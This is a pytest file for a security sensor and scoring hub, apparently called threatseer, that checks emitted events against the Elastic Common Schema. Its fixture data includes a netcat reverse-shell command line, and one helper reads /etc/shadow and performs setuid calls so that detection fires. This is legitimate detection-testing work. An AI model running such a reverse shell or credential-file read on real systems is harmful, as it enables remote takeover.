"""Every field the sensor emits, for every family of event, and every field the hub adds when
it scores them, is in the schema (common/ecs.py) with the type it is sent as, and is valid ECS
by the reference vendored in tests/data/ecs: ECS's type, ECS's allowed values and
category/type pairs, and everything ECS does not name under ``threatseer.*``; and every event
passes the hub's schema check."""

from __future__ import annotations

import os
import socket
import subprocess
from pathlib import Path

from ecs_reference import event_problems, schema_problems, version

from threatseer.common import ecs
from threatseer.hub.config import ActionConfig
from threatseer.hub.rules.bundle import default_bundle_dir, load_bundle
from threatseer.hub.scoring import Pipeline
from threatseer.hub.validate import problems as hub_problems

from .conftest import action  # noqa: TID252


def test_the_schema_is_valid_ecs_of_the_vendored_release() -> None:
    assert version() == ecs.ECS_VERSION
    problems = [p for name in ecs.FIELDS if not name.endswith("*")
                for p in schema_problems(name)]
    assert problems == []
    for name in ecs.FIELDS:  # families: their prefix is ours
        assert not name.endswith("*") or name.startswith("threatseer."), name
    for act, (cats, types) in ecs.CATEGORIES.items():
        assert event_problems({"event.category": cats, "event.type": types}) == [], act


def _real_actions(watched: Path) -> int:
    """Make the kernel see one of each family; returns the pid that called setuid."""
    subprocess.run(["/bin/cat", "/etc/shadow"], stdout=subprocess.DEVNULL, check=True)
    target = watched / "f"
    target.write_text("x")
    os.chmod(target, 0o4755)
    os.chown(target, 0, 0)
    os.utime(target, (1_700_000_000, 1_700_000_000))
    os.truncate(target, 0)
    os.rename(target, watched / "g")
    os.link(watched / "g", watched / "h")
    os.symlink("/etc/passwd", watched / "s")
    os.mkdir(watched / "d")
    os.rmdir(watched / "d")
    for name in ("g", "h", "s"):
        os.unlink(watched / name)
    with socket.socket() as srv:
        srv.bind(("127.0.0.1", 0))
        srv.listen(1)
        with socket.create_connection(srv.getsockname()):
            srv.accept()[0].close()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03com\x00\x00\x01\x00\x01"
        udp.sendto(query, ("127.0.0.1", 53))
    os.close(os.memfd_create("ts-schema", 0))
    pid = os.fork()
    if pid == 0:
        os.setresgid(1000, 0, 0)
        os.setgid(0)
        os.setresuid(1000, 0, 0)
        os.setuid(0)
        os._exit(0)
    os.waitpid(pid, 0)
    return pid


def test_every_sensor_and_hub_field_is_valid_ecs(start_sensor, tmp_path: Path) -> None:
    watched = tmp_path / "watched"
    watched.mkdir()
    sensor = start_sensor(sensitive_paths=["/etc/shadow"], watched_paths=[f"{watched}/"])
    pid = _real_actions(watched)
    sensor.wait_for(lambda e: action("setuid")(e) and e["process"]["pid"] == pid)
    sensor.wait_for(action("rmdir"))
    sensor.stop()
    flat = [ecs.flatten(e) for e in sensor.events]
    seen = {e["event.action"] for e in flat}
    assert seen >= {"exec", "fork", "exit", "open", "create", "chmod", "chown", "utimes",
                    "truncate", "rename", "link", "symlink", "mkdir", "rmdir", "unlink",
                    "listen", "connect", "accept", "dns-query", "memfd-create", "setuid",
                    "setgid", "sensor-health"}, seen
    problems = {p for e in flat for p in event_problems(e)}
    assert "\n".join(sorted(problems)) == ""
    for e in flat:
        assert (e["event.category"], e["event.type"]) == tuple(ecs.CATEGORIES[e["event.action"]])
        assert hub_problems([e]) == [], e  # what the hub's schema check would refuse
    # what was checked is what the issue is about: ids as strings, ECS process fields
    ex = next(e for e in flat if e["event.action"] == "exec")
    assert ex["user.id"] == str(os.getuid()) and ex["process.start"].endswith("Z")
    assert ex["host.os.type"] == "linux" and ex["host.architecture"] == os.uname().machine
    setuid = next(e for e in flat if e["event.action"] == "setuid" and e["process.pid"] == pid)
    assert setuid["user.id"] == "1000" and setuid["process.real_user.id"] == "0"
    assert setuid["process.saved_user.id"] == "0" and setuid["process.user.id"] == "0"
    ren = next(e for e in flat if e["event.action"] == "rename")
    assert ren["file.path"] == f"{watched}/g" and ren["threatseer.file.source_path"] == f"{watched}/f"

    # the hub's fields on these real events: every one an alert, so every alert field shows
    res = Pipeline(ActionConfig(toss_below=0, alert_at=1), load_bundle(default_bundle_dir()),
                   None).score(flat, "s1", 3, 0.0)
    alerts = [e for e in res.emitted if e["event.kind"] == "alert"]
    assert alerts and any(e.get("rule.name") for e in alerts)
    problems = {p for e in res.emitted for p in event_problems(e)}
    assert "\n".join(sorted(problems)) == ""


def test_the_fields_the_hub_adds_are_valid_ecs() -> None:
    events = [{"@timestamp": "2026-12-05T00:00:00.000000Z", "event.kind": "event",
               "event.category": ["process"], "event.type": ["start"], "event.action": "exec",
               "process.pid": 1, "process.executable": "/bin/nc", "process.name": "nc",
               "process.args": ["nc", "-e", "/bin/sh", "10.0.0.1", "4444"],
               "process.command_line": "nc -e /bin/sh 10.0.0.1 4444", "process.parent.pid": 1}]
    bundle = load_bundle(default_bundle_dir())
    res = Pipeline(ActionConfig(), bundle, None).score(events, "s1", 3, 0.0)
    assert res.emitted and res.emitted[0]["threatseer.indicators"]
    for e in res.emitted:
        assert event_problems(e) == []
